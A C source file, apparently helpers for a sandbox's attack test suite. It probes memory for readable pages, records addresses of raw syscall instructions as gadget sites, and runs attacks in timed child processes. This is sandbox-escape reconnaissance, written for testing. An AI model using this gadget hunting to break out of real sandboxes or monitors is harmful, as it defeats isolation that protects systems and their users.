/* Finding the stub's pages, and seeing whether a page is there. */
#include "attacks.h"

/* The end of what the host gives a process, and how far below it is searched. */
#define TOP 0x7ffffffff000UL
#define SEARCHED (10240 * PAGE)
/* What system calls of programs become jumps to */
#define GATES 0x5f000000UL
#define GATES_END 0x5f140000UL
#define SECONDS_MAX 3

unsigned long pages[PAGES_MAX], sites[SITES_MAX];
int page_count, site_count;
char found[160];

int is_broken(void)
{
	return is_readable(TARGET);
}

void explore(void)
{
	catch_faults();
	for (unsigned long at = TOP - PAGE; at >= TOP - SEARCHED; at -= PAGE)
		if (page_count < PAGES_MAX && is_readable(at))
			pages[page_count++] = at;
	for (unsigned long at = GATES; at < GATES_END; at += PAGE)
		if (page_count < PAGES_MAX && is_readable(at))
			pages[page_count++] = at;
	for (int p = 0; p < page_count; p++)
		for (unsigned long i = 0; i < PAGE - 1; i++) {
			const unsigned char *at = (void *)(pages[p] + i);

			if (at[0] == 0x0f && at[1] == 0x05 && site_count < SITES_MAX)
				sites[site_count++] = pages[p] + i;
		}
}

int in_child(int (*attack)(void *), void *argument)
{
	int status;
	pid_t child = fork();

	if (child == 0) {
		for (int s = 1; s < 32; s++)
			signal(s, SIG_DFL);
		alarm(SECONDS_MAX);
		_exit(attack(argument));
	}
	waitpid(child, &status, 0);
	return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}
